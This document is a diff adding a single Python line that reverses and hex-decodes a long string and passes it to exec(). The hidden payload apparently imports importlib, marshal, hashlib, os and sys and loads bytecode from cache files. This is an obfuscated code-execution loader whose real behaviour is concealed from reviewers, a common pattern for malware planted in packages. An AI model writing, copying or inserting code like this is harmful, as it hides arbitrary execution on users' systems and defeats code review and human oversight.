@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09292567616b636160782275646e6966456362757f635465646f636564402c2038247275637e696e286471607f5164756d6e237973702020202a0e62757475627020202020202020202020202a0a3567616b636160702d3d302567616b6361607e2275646e696660246e6160292275646e6966456362757f635465646f636564402c2275646e69666825636e6164737e69637960266960202020202020202a0a386471607f5164756d6e237973702e69602275646e696660227f66602020202a0222222e246564727f607d69602562716023756c65746f6d6023772567616b636160702568647025627f666562602e6572702473757d602b35636e6f602275646e69666025686470237c6c6164737e69422222202020202a0a392220707162202d30227473702a3567616b636160782c6c6164737e69602665646a0a0a03656073702e627574756270202020202020202a092e696769627f6e23656073702c256d616e6c6c657668227564616f6c456362757f635465646f636564402d30227564616f6c6e236560737020202020202020202020202a0a327564616f6c456c6966456362757f635e2972756e696863616d6e22696c64727f607d696023796029227564616f6c6e23656073782560797470246e6160256e6f6e40247f6e602379602365607370266960202020202020202a09247567627164702c28647160702c256d616e6c6c657668236560737f546e69666e2275646e6966486471605e2972756e696863616d6e22696c64727f607d69602d302365607370202020202020202a056e6f6e402e62757475627020202020202020202020202a0a39222e22202b202567616b6361607e266c656378286479677374727164737e256d616e6c6c657660247f6e60246e61602567616b6361607e266c6563702d3120256d616e6c6c657660266960202020202020202a0a39256e6f6e4d347567627164702c256e6f6e4d38647160702c256d616e6c6c6576602c266c656378236560737f546e696660266564602020202a0a0567616b636160702d302567616b6361607e266c656370202020202020202a0a392220707162202d30227473702a3567616b636160702c266c6563782f5f54796e696f5f50266564602020202a0a0222222e227564616f6c456362757f635465646f636564402867657f627864702567616b6361607020707160256864702375667275637024716864702275646e69666028647160702164756d422222202020202a0a3275646e6966456362757f635465646f636564402373716c636a0a0a05646f63602e627574756270202020202020202a0925646f63602c247375676964602c286471607f55686361636825686361636f55647962777f5020202020202020202020202a09256572745d34796275686e696f547e6f64602c222365687562202c286471607f556362757f63702c256362757f6378256c69607d6f63602d3025646f636020202020202020202020202a0929222969636371622825646f6365646e2d513d2a3a3b59213820757f62776e286364716d682875686d6f62766e2375647972602d30256362757f637020202020202020202020202a0a356e6f6e4023796025646f6360266960202020202020202a09247375676964602c286471607f55686361636825686361636f546165627f502d3025646f6360202020202020202a09286471607f556362757f6378286471607f55686361636f502d30286471607f556863616360202020202020202a09282473756769646e2921647164682635323168637e22696c68637168602d3024737567696460202020202020202a0a09256d616e6c6c65766825646f636f5475676e29282275607573702e62757475627020202020202020202020202a0a356e6f6e40237960286364716d60266960202020202020202a092164716468286364716d6e25425f524554535f502d30286364716d60202020202020202a09286471607f556362757f6378216471646f5475676e266c6563702d302164716460202020202020202a09256d616e6c6c657668256d616e656c69666f5475676e266c6563702d30286471607f556362757f6370202020202020202a0a39256d616e6c6c6576602c266c65637825646f636f54756760266564602020202a0a39227564616f6c456c6966456362757f635e2972756e696863616d6e22696c64727f607d6968227564616f6c456362757f635465646f636564402373716c636a0a0a037371607020202020202020202020202a0a327f627275435f4024707563687560202020202020202a09286471607f507d647825667f6d65627e237f6020202020202020202020202a0a39727470202020202020202a0568636163602568647024757f68647967702e6572702473757a602c24757f6b6365686360297c6e6f6d24616562502320202020202020202a0a327f627275435f40247075636875602020202a09286471607f5568636163602c286471607f507d64782563616c6075627e237f60202020202020202a092925646f636823707d65746e2c61686372716d602b20247375676964602b20234947414d4f55484341434f5825647962777e266020202020202020202020202a0a36602371602922226772202c286471607f507d64782e65607f602864796770202020202020202a09256572745d3b6f6f5473796875602c29286471607f556863616368256d616e6279646e286471607e237f6823727964656b616d6e237f60202020202020202a0a397274702020202a02207d647e2d79282469607475676e237f6b7e2d786471607f55686361636b7226602d30286471607f507d64702020202a0e627574756270202020202020202a0a35646f63656479726f55647962777f547e6f646e237973702669602020202a0a3925646f63602c2375647972602a347375676964602c227473702a386471607f55686361636825686361636f55647962777f502665646a0a0a056e6f6e402e627574756270202020202020202a0a39227f62727545607974502c227f62727545657c6166502c227f627275464f454820247075636875602020202a092d5a39227564616568682e656c6b51647164682374616f6c6e2c61686372716d602e627574756270202020202020202a0a397274702020202a056e6f6e402e627574756270202020202020202a0a3922756461656868286479677374727164737e2164716460247f6e602669602020202a047375676964602b20234947414d4f55484341434f502d30227564616568602020202a056e6f6e402e627574756270202020202020202a0a327f627275435f40247075636875602020202a0928246165627e26602d30216471646020202020202020202020202a0a36602371602922226272202c286471607f5568636163682e65607f602864796770202020202020202a0a397274702020202a0a392375647972602a347375676964602c227473702a386471607f55686361636825686361636f546165627f502665646a0a0a092859464645535f55484341434f502b20256d616e602c222f5f556863616369707f5f52202c29727f647365627964682e696f6a6e286471607e237f602e6275747562702020202a0d503b59256d616e656c69666824787564796c60737e286471607e237f602d30256d616e602020202a09286471607f556362757f637824796c60737e286471607e237f602d30256d616e656c6966602c29727f647365627964602020202a0a327473702e3d2029227473702a386471607f556362757f6378286471607f55686361636f502665646a0a0a022465646f6365646e2d7761647f55686361636e2e6f696471647e656d656c607d696e2379737b7e2226602d302859464645535f55484341434f5a0255424d455e4f534947414d4e2c6964757e22696c64727f607d69602b202223444c485222602d30234947414d4f55484341434f5a092a07242a237c5b392c592c5022292a2d566d21693d203b582220282c592c5f582c582c536568756b392c5d5c513d2a3a3b5c5f5f582c5875686d6f62766e2c5375647972602a302f5f502164626d616c602d302f5e572262702020202a08256c69607d6f636e2562702d3025425f524554535f5a0a0e2c61686372716d6e6570297c6e6f60237568636e65716c60227564716c602f63702c256c6966602465607079686370232a05686470266f60286371686025686470297260246569756b602c2f5f556863616369707f5f502e69602473656a626f6025646f6360276e69647c657375627025686470237075656b60232a046e616025636e6f602d6568647023756c69607d6f6360246e61602375646f63656460227564616f6c6023796864502e24727f607d69602972756675602e6f6024672365687560246e6160232a0465646f636564602379602471686470276e69627473702875686d24656372756675627021602371602465607079686370256271602f6075627023796864702e696023756c65746f6d40232a0a0379737024727f607d696a05627024727f607d696a037f6024727f607d696a0c61686372716d6024727f607d696a0c6964757e22696c64727f607d696024727f607d696a0972756e696863616d6e22696c64727f607d696024727f607d696a02696c686371686024727f607d696" ));